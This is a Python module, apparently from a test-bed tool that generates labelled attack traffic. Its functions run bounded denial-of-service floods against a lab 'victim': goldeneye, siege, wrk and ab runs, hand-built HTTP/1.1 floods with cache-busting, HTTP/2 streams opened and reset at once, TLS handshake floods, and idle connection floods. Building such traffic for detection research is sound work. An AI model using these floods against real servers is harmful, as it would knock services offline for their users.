"""Load: more of what servers are there for than they can bear - requests, handshakes, connections.

Owns: goldeneye, siege, wrk, ab and our own floods of requests (HTTP/1.1, HTTP/2), TLS handshakes and idle connections.
Never without a bound of connections and seconds. In: a context and bounds. Out: truth by program and target, or socket.
"""

import asyncio
import shutil
import ssl
from pathlib import Path

from ..catalog import hostile
from ..draws import log_uniform
from ..tls import unverified
from .crew import Bounds, Pace, address_of, attempts, run_bounded, together, url, victim
from .flood import TCP_SERVICES
from .slow_http import AGENTS, web_target

LEAST_S = 3.0


def _duration(ctx, seconds):
    """How long a program's flood lasts: these cost more than others, so seconds rather than minutes."""
    return max(LEAST_S, min(seconds, log_uniform(ctx.rng, 4, 60)))


def _path(rng):
    return rng.choice(
        (
            "/",
            "/",
            f"/p/{rng.randint(1, 30)}.html",
            f"/f/{round(log_uniform(rng, 100, 20_000))}",
            "/login",
            f"/search?q={rng.randrange(10**6)}",
        )
    )


@hostile("http-flood-goldeneye", label="dos", tool="goldeneye", technique="T1499.002")
async def goldeneye(ctx, flows, seconds, *, where=None):
    """Random queries and headers, keep-alive."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where, six_share=0)
    # As packaged it halves an odd number for randint(), and never gets to its first request.
    program = ctx.directory / "goldeneye"
    program.write_text(Path(shutil.which("goldeneye")).read_text().replace("/2)", "//2)"))
    argv = [
        ctx.bed.python,
        program,
        url(address, port, tls, _path(rng)),
        "-w",
        str(rng.randint(1, 3)),
        "-s",
        str(rng.randint(2, 40)),
        "-m",
        rng.choice(("get", "post", "random")),
        "-n",
    ]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=_duration(ctx, seconds))


@hostile("http-flood-siege", label="dos", tool="siege", technique="T1499.002")
async def siege(ctx, flows, seconds, *, where=None):
    """Many users without thinking time, or with a little, over a list of pages."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where, six_share=0)
    last_s = _duration(ctx, seconds)
    tag = rng.getrandbits(32)
    pages, settings = ctx.directory / f"pages-{tag:08x}", ctx.directory / f"siege-{tag:08x}"
    pages.write_text("\n".join(url(address, port, tls, _path(rng)) for _ in range(rng.randint(3, 40))) + "\n")
    settings.write_text(
        f"connection = {rng.choice(('close', 'close', 'keep-alive'))}\nprotocol = HTTP/1.1\nlogging = false\n"
        f"parser = {rng.choice(('true', 'false'))}\n"
    )
    pace = ["-b"] if rng.random() < 0.4 else ["-d", f"{log_uniform(rng, 0.1, 2):.1f}"]
    argv = [
        "siege",
        "-q",
        "-R",
        settings,
        "-c",
        str(round(log_uniform(rng, 2, 60))),
        *pace,
        "-t",
        f"{last_s:.0f}S",
        "-i",
        "-f",
        pages,
    ]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=last_s + 2)


@hostile("http-flood-wrk", label="dos", tool="wrk", technique="T1499.002")
async def wrk(ctx, flows, seconds, *, where=None):
    """Few connections with very many requests, or a connection a request; with a delay in between."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where)
    last_s = min(_duration(ctx, seconds), 20)
    script = ctx.directory / f"wrk-{rng.getrandbits(32):08x}.lua"
    most_ms = round(log_uniform(rng, 4, 300))
    script.write_text(
        f"function delay() return math.random(1, {most_ms}) end\nlocal n = 0\n"
        f'function request() n = n + 1 return wrk.format("{rng.choice(("GET", "GET", "HEAD", "POST"))}", '
        f'"{_path(rng).split("?")[0]}?r=" .. {rng.choice(("n", "math.random(1e6)"))}) end\n'
    )
    close = ["-H", "Connection: close"] if rng.random() < 0.6 else []
    argv = [
        "wrk",
        "-t",
        "1",
        "-c",
        str(max(1, min(flows, round(log_uniform(rng, 1, 64))))),
        "-d",
        f"{last_s:.0f}s",
        "-s",
        script,
        "--timeout",
        "5s",
        "-H",
        f"User-Agent: {rng.choice(AGENTS)}",
        *close,
        url(address, port, tls),
    ]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=last_s + 2)


@hostile("http-flood-ab", label="dos", tool="ab", technique="T1499.002")
async def ab(ctx, flows, seconds, *, where=None):
    """A number of requests as fast as some connections give, each its own or kept alive."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where, six_share=0)
    hands = max(1, min(flows, round(log_uniform(rng, 1, 100))))
    keep = rng.random() < 0.3
    argv = [
        "ab",
        "-q",
        "-r",
        "-d",
        "-c",
        str(hands),
        "-n",
        str(flows * 5 if keep else flows),
        "-s",
        "5",
        *(["-k"] if keep else []),
        *(["-i"] if rng.random() < 0.1 else []),
        url(address, port, tls, _path(rng)),
    ]
    await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=_duration(ctx, seconds))


@hostile("http-flood-python", label="dos", tool="asyncio", technique="T1499.002")
async def http_python(ctx, flows, seconds, *, where=None, per_s=None):
    """Random URLs that no cache knows, agents and referers of all kinds, one or more requests a connection."""
    rng = ctx.rng
    address, port, tls = web_target(ctx, where)
    per_s = per_s or max(flows / seconds, log_uniform(rng, 3, 120))
    each = rng.choice((1, 1, 2, 10, round(log_uniform(rng, 2, 200))))
    read_answer, method = rng.random() < 0.7, rng.choice(("GET", "GET", "GET", "POST", "HEAD"))
    many_sources = rng.random() < 0.5 and ":" not in address
    host = f"[{address}]" if ":" in address else address
    context = _tls(rng) if tls else None

    def request():
        word = "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ", k=rng.randint(3, 12)))
        head = [
            f"{method} {_path(rng).split('?')[0]}?{word}={rng.randrange(10**9)} HTTP/1.1",
            f"Host: {host}",
            f"User-Agent: {rng.choice(AGENTS)}",
            "Cache-Control: no-cache",
            f"Accept-Encoding: {rng.choice(('gzip', 'identity', '*'))}",
        ]
        if rng.random() < 0.6:
            head.append(f"Referer: http://{rng.choice(('search', 'news', 'www'))}.example/{word}")
        body = b"x" * rng.randint(1, 400) if method == "POST" else b""
        head += [f"Content-Length: {len(body)}"] if body else []
        return (
            "\r\n".join([*head, "Connection: keep-alive" if each > 1 else "Connection: close", "", ""]).encode() + body
        )

    async def visit():
        if many_sources:
            ctx.pick_source()
        writer = None
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(address, port, ssl=context, server_hostname="" if context else None), 5
            )
            for _ in range(each):
                writer.write(request())
                await asyncio.wait_for(writer.drain(), 5)
                if read_answer and not await asyncio.wait_for(reader.read(65536), 5):
                    return
        except (OSError, TimeoutError, ssl.SSLError):
            pass
        finally:
            if writer is not None:
                writer.close()

    await attempts(
        ctx,
        Bounds(ctx, flows, seconds),
        Pace(rng, per_s, rng.choice(("steady", "random", "bursts"))),
        round(log_uniform(rng, 2, 100)),
        visit,
    )


@hostile("http2-flood", label="dos", tool="h2", technique="T1499.002")
async def http2(ctx, flows, seconds, *, where=None):
    """HTTP/2: streams opened and reset at once, or opened without end, on some connections."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.exceptions

    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    address, port, _ = web_target(ctx, where, tls=True)
    context = _tls(rng)
    context.set_alpn_protocols(["h2"])
    reset = rng.random() < 0.6
    streams, per_s = round(log_uniform(rng, 20, 800)), log_uniform(rng, 20, 800)
    head = [(":method", "GET"), (":authority", address), (":scheme", "https"), ("user-agent", rng.choice(AGENTS))]

    async def connection():
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(address, port, ssl=context, server_hostname=""), 5
        )
        try:
            h2_state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            h2_state.initiate_connection()
            for _ in range(streams):
                if bounds.left_s <= 0:
                    return
                if not reset and h2_state.open_outbound_streams >= 90:
                    h2_state.receive_data(await asyncio.wait_for(reader.read(65536), 5))
                else:
                    stream = h2_state.get_next_available_stream_id()
                    h2_state.send_headers(stream, [*head, (":path", _path(rng))], end_stream=True)
                    if reset:
                        h2_state.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                writer.write(h2_state.data_to_send())
                await asyncio.wait_for(writer.drain(), 5)
                await ctx.sleep(rng.expovariate(per_s))
        finally:
            writer.close()

    async def attempt():
        try:
            await connection()
        except (OSError, TimeoutError, ssl.SSLError, h2.exceptions.H2Error):
            pass

    await attempts(ctx, bounds, Pace(rng, log_uniform(rng, 0.5, 10)), rng.randint(1, 12), attempt)


def _tls(rng):
    context = unverified()
    if rng.random() < 0.4:
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    return context


@hostile("tls-handshake-flood", label="dos", tool="asyncio", technique="T1499.002")
async def tls_handshakes(ctx, flows, seconds, *, where=None, per_s=None):
    """Handshakes that lead to nothing: completed, or left after the server has done its part."""
    rng = ctx.rng
    address, port, _ = web_target(ctx, where, tls=True)
    per_s = per_s or max(flows / seconds, log_uniform(rng, 2, 60))
    context, half = _tls(rng), rng.random() < 0.5

    async def shake():
        writer = None
        try:
            if not half:
                _, writer = await asyncio.wait_for(
                    asyncio.open_connection(address, port, ssl=context, server_hostname=""), 5
                )
                return
            reader, writer = await asyncio.wait_for(asyncio.open_connection(address, port), 5)
            out = ssl.MemoryBIO()
            hello = context.wrap_bio(ssl.MemoryBIO(), out)
            try:
                hello.do_handshake()
            except ssl.SSLWantReadError:
                writer.write(out.read())
            await asyncio.wait_for(reader.read(16384), 5)
        except (OSError, TimeoutError, ssl.SSLError):
            pass
        finally:
            if writer is not None:
                writer.close()

    await attempts(ctx, Bounds(ctx, flows, seconds), Pace(rng, per_s), round(log_uniform(rng, 2, 60)), shake)


@hostile("connection-flood", label="dos", tool="asyncio", technique="T1499.001")
async def connections(ctx, flows, seconds, *, where=None):
    """Opens connections to any TCP service and keeps them idle, or opens and closes them as fast as it can."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    host = victim(ctx, *TCP_SERVICES, where=where)
    name = rng.choice([n for n in TCP_SERVICES if host.offers(n)])
    address, port = address_of(ctx, host), 25 if name == "mail" else host.port(name, TCP_SERVICES[name])
    hold_s = rng.choice((0, log_uniform(rng, 0.1, 5), log_uniform(rng, 5, max(6.0, seconds))))
    hands = max(1, min(flows, 200, round(log_uniform(rng, 5, 200))))
    pause_s = log_uniform(rng, 0.05, 2)
    word = rng.choice((b"", b"", b"\r\n", rng.randbytes(16)))

    async def hold(number):
        await ctx.sleep(pause_s * number / hands * rng.uniform(1, 4))
        while bounds.take():
            writer = None
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(address, port), 5)
                if word:
                    writer.write(word)
                await ctx.sleep(min(hold_s * rng.uniform(0.7, 1.3), max(bounds.left_s, 0)))
            except (OSError, TimeoutError):
                pass
            finally:
                if writer is not None:
                    writer.close()
            await ctx.sleep(pause_s * rng.uniform(0.3, 1.7))

    await together(ctx, [hold(number) for number in range(hands)])
